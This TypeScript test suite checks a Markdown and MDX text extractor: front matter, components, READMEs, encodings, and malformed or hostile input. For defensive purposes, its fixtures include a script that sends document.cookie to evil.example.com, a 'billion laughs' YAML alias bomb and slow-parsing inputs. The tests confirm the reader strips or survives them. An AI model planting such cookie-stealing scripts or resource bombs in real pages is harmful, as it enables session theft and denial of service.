import { describe, expect, it } from 'vitest';
import { chunkText } from '../search/chunk.ts';
import { extractText } from './extract.ts';
import { markdownText, readMarkdown } from './markdown.ts';

const page = (lines: string[]) => readMarkdown(lines.join('\n'));

describe('a Markdown document', () => {
  it('is read as its author meant a docs-as-code page: front matter, anchors, demos and tables', () => {
    const document = page([
      '---',
      'category: Components',
      'title: Watermark',
      'subtitle: 水印',
      'description: 给页面的某个区域加上水印。',
      'cover: https://cdn.example.com/afts/img/coverzebra/original',
      'demo:',
      '  cols: 1',
      '---',
      '',
      '## 何时使用 {#when-to-use}',
      '',
      '- 页面需要添加水印标识版权时使用。',
      '- 适用于防止信息盗用。',
      '',
      '<!-- prettier-ignore -->',
      '<code src="./demo/basic.tsx">基本</code>',
      '<code src="./demo/multi-line.tsx" debug>多行水印</code>',
      '',
      '通用属性参考：[通用属性](/docs/react/common-props)，见 ![示意图](https://cdn.example.com/shot.png "截图")',
      '',
      '| 参数 | 说明 | 类型 |',
      '| --- | --- | --- |',
      '| gap | 水印之间的间距 | \\[number, number\\] |',
      '| content | 水印文字内容 | string \\| `ReactNode` |',
    ]);
    expect(document).toEqual({
      title: 'Watermark 水印',
      titleDeclared: true,
      author: null,
      text: [
        '给页面的某个区域加上水印。',
        '## 何时使用',
        '页面需要添加水印标识版权时使用。',
        '适用于防止信息盗用。',
        '基本\n多行水印',
        '通用属性参考：通用属性，见 示意图',
        '参数 说明 类型',
        'gap 水印之间的间距 [number, number]',
        'content 水印文字内容 string | ReactNode',
      ].join('\n\n'),
    });
  });

  it('reads MDX: imports, exports, comments and components go, the text inside components stays', () => {
    const document = page([
      "import Tabs from '@theme/Tabs';",
      "import { Demo,",
      "  Preview } from '../components';",
      'export const meta = { draft: true };',
      '',
      '# Deploying the gateway',
      '',
      '{/* reviewers: keep this short */}',
      '<Tabs groupId="os" values={[{ label: "Linux", value: "linux" }]}>',
      '  <TabItem value="linux">Run the binary</TabItem>',
      '</Tabs>',
      '',
      'Press <Kbd>Ctrl</Kbd> then <Button onClick={() => open({ modal: true })} icon={<Icon />}>Open</Button> to start.',
      '',
      ':::tip 小提示',
      'Keep one gateway per region.',
      ':::',
      '',
      ':::warning{title=已废弃}',
      'Use items instead.',
      ':::',
      '',
      ':::note[Read first]',
      '',
      'Ports must be open.',
      '',
      ':::',
    ]);
    expect(document.title).toBe('Deploying the gateway');
    expect(document.titleDeclared).toBe(false);
    expect(document.text).toBe(
      [
        '# Deploying the gateway',
        'Run the binary',
        'Press Ctrl then Open to start.',
        '小提示',
        'Keep one gateway per region.',
        '已废弃',
        'Use items instead.',
        'Read first',
        'Ports must be open.',
      ].join('\n\n'),
    );
  });

  it('keeps code as text, for its identifiers, and never lets a line of it pass for a heading', () => {
    const document = page([
      '# Setup',
      '',
      '```bash',
      '# install the CLI',
      '```',
      '',
      '```ts',
      'const client = createClient({ retries: 3 });',
      '',
      '// <Provider> wraps the app',
      'render(<Provider client={client} />);',
      '```',
      '',
      '    indentedCode(42)',
      '',
      'Use `<ConfigProvider>` or `theme.useToken()`; write &lt;div&gt; and \\<span> as text.',
      '',
      '\\# Not a heading',
    ]);
    expect(document.text).toBe(
      [
        '# Setup',
        '\\# install the CLI',
        'const client = createClient({ retries: 3 });\n// <Provider> wraps the app\nrender(<Provider client={client} />);',
        'indentedCode(42)',
        'Use <ConfigProvider> or theme.useToken(); write <div> and <span> as text.',
        '\\# Not a heading',
      ].join('\n\n'),
    );
    expect(chunkText(document.text).map((chunk) => chunk.heading)).toEqual(['Setup']);
  });

  it('reads a README: an HTML banner’s heading, links as their text, badges as their alt text, task lists', () => {
    const document = page([
      '<p align="center">',
      '  <img src="https://example.com/logo.svg" alt="logo" width="120">',
      '</p>',
      '<h1 align="center">Zhiwen &amp; Friends</h1>',
      '',
      '[![npm version](https://img.shields.io/npm/v/zhiwen.svg)](https://npmjs.com/zhiwen)',
      '',
      'See <https://zhiwen.example.com> or the [guide][guide].',
      '',
      '[guide]: https://zhiwen.example.com/guide "The guide"',
      '',
      '- [x] Bilingual search',
      '- [ ] Voice',
      '  1. nested *one*',
      '  2. nested __two__',
      '',
      'Setext title',
      '============',
    ]);
    expect(document.title).toBe('Zhiwen & Friends');
    expect(document.text).toBe(
      [
        '# Zhiwen & Friends',
        'npm version',
        'See https://zhiwen.example.com or the guide.',
        'Bilingual search',
        'Voice',
        'nested one',
        'nested two',
        '# Setext title',
      ].join('\n\n'),
    );
  });

  it('takes the front matter’s description or summary as its first paragraph, and a string author', () => {
    expect(page(['---', 'title: "Release: 2.0"', 'summary: What changed.', 'author: 王小明', '---', 'Body.'])).toEqual({
      title: 'Release: 2.0',
      titleDeclared: true,
      author: '王小明',
      text: 'What changed.\n\nBody.',
    });
    // Authors given as a list or a map are not one person's name.
    expect(page(['---', 'title: 2024', 'author:', '  - a', '  - b', '---', '# Heading']).author).toBeNull();
    expect(page(['---', 'title: 2024', '---', '# Heading']).title).toBe('2024');
    // Without a title, the first level-one heading names the page; the subtitle alone does not.
    expect(page(['---', 'subtitle: 水印', '---', '## Intro', '', '# Real title', '', '# Second']).title).toBe('Real title');
    // Nothing names it: the caller keeps the file name.
    expect(page(['## Only a section', '', 'text']).title).toBeNull();
  });

  it('reads TOML front matter and YAML closed by `...`', () => {
    expect(page(['+++', 'title = "Hugo \\"page\\""', "author = 'Li Lei'", 'draft = true', '[params]', 'title = "not this"', '+++', 'Text.'])).toEqual({
      title: 'Hugo "page"',
      titleDeclared: true,
      author: 'Li Lei',
      text: 'Text.',
    });
    expect(page(['---', 'title: Dots', '...', 'Text.']).title).toBe('Dots');
  });
});

describe('a Markdown document written carelessly or to hurt', () => {
  it('keeps what broken YAML front matter says line by line, and drops the rest of it', () => {
    // `Vue: a guide` is a nested mapping YAML refuses; the image key must not reach the text.
    expect(page(['---', 'title: Vue: a guide', 'image: https://cdn.example.com/broken.png', 'tags: [unclosed', '---', 'Body.'])).toEqual({
      title: 'Vue: a guide',
      titleDeclared: true,
      author: null,
      text: 'Body.',
    });
    // A value written below its key is not read off a broken block's lines.
    expect(page(['---', 'title: |', '  Multi: line', 'description: >-', '  folded', 'author: "A: B', '---', '# Heading'])).toMatchObject({
      title: 'Heading',
      titleDeclared: false,
      text: '# Heading',
    });
  });

  it('leaves a block between rules that is not a set of keys as text', () => {
    expect(page(['---', 'Just a line', '---', 'More.']).text).toBe('## Just a line\n\nMore.');
    expect(page(['---', '[unclosed', '---', 'More.']).text).toBe('## [unclosed\n\nMore.');
    // Not closed: no front matter, a rule and text.
    expect(page(['---', 'title: Open', '', 'Text.']).text).toBe('title: Open\n\nText.');
  });

  it('reads front matter alone, an empty file and blank lines as nothing to search', () => {
    expect(page(['---', 'title: Only metadata', 'cover: x.png', '---'])).toEqual({ title: 'Only metadata', titleDeclared: true, author: null, text: '' });
    expect(page(['---', '---'])).toEqual({ title: null, titleDeclared: false, author: null, text: '' });
    expect(readMarkdown('')).toEqual({ title: null, titleDeclared: false, author: null, text: '' });
    expect(readMarkdown('\n\n   \n\t\n').text).toBe('');
  });

  it('survives YAML aliases that multiply (a "billion laughs")', () => {
    const laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (const [name, previous] of [['b', 'a'], ['c', 'b'], ['d', 'c'], ['e', 'd'], ['f', 'e'], ['g', 'f'], ['h', 'g']]) {
      laughs.push(`${name}: &${name} [${Array(9).fill(`*${previous}`).join(',')}]`);
    }
    const started = performance.now();
    expect(page(['---', 'title: Laughs', ...laughs, '---', 'Body.'])).toMatchObject({ title: 'Laughs', text: 'Body.' });
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('keeps the rest of a document after an unclosed fence as code', () => {
    expect(page(['# Notes', '', '```js', 'const answer = 42;', '', '## not a heading in code']).text).toBe('# Notes\n\nconst answer = 42;\n## not a heading in code');
  });

  it('drops scripts and styles with what they hold, closed or not', () => {
    const document = page([
      '<script>fetch("https://evil.example.com/steal?c=" + document.cookie)</script>',
      '',
      'Safe <script>alert("inline")</script>text <style>.x { color: red }</style>here.',
      '',
      '<style>',
      'body { display: none }',
      '</style>',
      '',
      'Visible.',
      '',
      '<script src="x.js">',
      'stealCookies();',
    ]);
    expect(document.text).toBe('Safe text here.\n\nVisible.');
  });

  it('drops an unclosed HTML comment to the end, as a browser hides it', () => {
    expect(page(['Shown.', '', '<!-- draft', '', 'Hidden.']).text).toBe('Shown.');
  });

  it('reads lists and quotes nested deeper than Markdown is read as plain text, whole', () => {
    const nested = (depth: number) => Array.from({ length: depth }, (_, level) => `${'  '.repeat(level)}- level${level}`).join('\n');
    expect(readMarkdown(`# Outline\n\n${nested(10)}\n\nAfter.`).text).toBe(
      ['# Outline', ...Array.from({ length: 10 }, (_, level) => `level${level}`), 'After.'].join('\n\n'),
    );
    const started = performance.now();
    const document = readMarkdown(`${nested(3000)}\n\n${'>'.repeat(5000)} deep\n\n${'['.repeat(5000)}link${'](u)'.repeat(5000)}\n\nAfter.`);
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(document.text).toMatch(/^- level0\n- level1\n/);
    expect(document.text).toContain('- level2999');
    expect(document.text.endsWith('After.')).toBe(true);
  });

  it('reads a large file, and text made of unclosed tags and comments, in bounded time', () => {
    const section = (n: number) => `## Section ${n}\n\nParagraph ${n} with **bold**, \`code\`, a [link](https://x.example/${n}) and <b>html</b>.\n\n| a | b |\n| - | - |\n| ${n} | y |\n`;
    const large = Array.from({ length: 15_000 }, (_, n) => section(n)).join('\n');
    expect(large.length).toBeGreaterThan(2_000_000);
    let started = performance.now();
    const document = readMarkdown(large);
    expect(performance.now() - started).toBeLessThan(20_000);
    expect(document.text.endsWith('## Section 14999\n\nParagraph 14999 with bold, code, a link and html.\n\na b\n\n14999 y')).toBe(true);

    // Each would cost the square of its length to a reader that looks for the end of every start.
    for (const unit of ['<a {', '<a "', '<b x=', '<a b={<c ', '{/*', '<!--', '{{< ', '{% ']) {
      started = performance.now();
      readMarkdown(unit.repeat(100_000));
      expect(performance.now() - started, unit).toBeLessThan(5_000);
    }
  });

  it('takes out NUL characters, which cannot be stored', () => {
    expect(readMarkdown('# 值班\u0000规则\n\n夜班\u0000交接').text).toBe('# 值班规则\n\n夜班交接');
  });
});

describe('Markdown of an issue or a comment', () => {
  it('is read without looking for front matter', () => {
    // A rule, then a line underlined: a heading, as GitHub shows it.
    expect(markdownText('---\ntitle: x\n---\n<!-- Describe the bug -->\nIt **crashes** on `start()`.')).toBe('## title: x\n\nIt crashes on start().');
  });
});

describe('extracting a Markdown file', () => {
  it('decodes its bytes (a BOM, GBK) and answers the document’s title, text and author', async () => {
    const utf8 = Buffer.from('\uFEFF---\ntitle: 部署说明\nauthor: ops\n---\n## 配置\n\n`DATABASE_URL` 指向 Postgres。\n');
    expect(await extractText(utf8, 'markdown')).toEqual({ title: '部署说明', titleDeclared: true, author: 'ops', text: '## 配置\n\nDATABASE_URL 指向 Postgres。' });
    const gbk = Buffer.from([0x23, 0x20, 0xc4, 0xea, 0xbc, 0xd9]); // "# 年假" in GBK
    expect(await extractText(gbk, 'markdown')).toEqual({ title: '年假', titleDeclared: false, author: null, text: '# 年假' });
  });
});
